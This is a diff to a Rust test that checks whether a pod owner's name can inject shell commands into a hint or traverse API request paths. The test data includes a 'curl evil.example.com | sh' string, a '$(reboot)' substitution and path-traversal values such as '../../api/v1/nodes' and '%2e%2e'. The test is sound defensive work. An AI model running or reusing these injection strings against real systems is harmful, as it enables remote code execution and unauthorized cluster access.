@@ -104,6 +104,17 @@ fn owner_of_a_pod_cannot_write_commands_into_a_hint() {
     scene.says("pods", &["rollout restart 'deployment/web; curl evil.example.com | sh'"]);
     scene.pod("y", &owner("$(reboot)", "it's"), &json!({}), &[], "sts.amazonaws.com");
     scene.says("pods", &["restart '$(reboot)/it'\\''s' in namespace"]);
+    // nor the path of a request
+    let cluster = scene.world.cluster("main");
+    for (number, name) in ["x/../../../../../api/v1/nodes", "x?watch=true", "..", "%2e%2e"].iter().enumerate() {
+        let owner = owner("ReplicaSet", name);
+        scene.pod(&format!("z{number}"), &owner, &json!({}), &[], "sts.amazonaws.com");
+    }
+    cluster.gate().forget();
+    scene.says("pods", &["replicaset/.."]);
+    let log = cluster.gate().log();
+    let strange = log.iter().find(|record| ["replicasets", "nodes"].iter().any(|word| record.call.path.contains(word)));
+    assert!(strange.is_none(), "{strange:?}");
 }
 
 #[test]
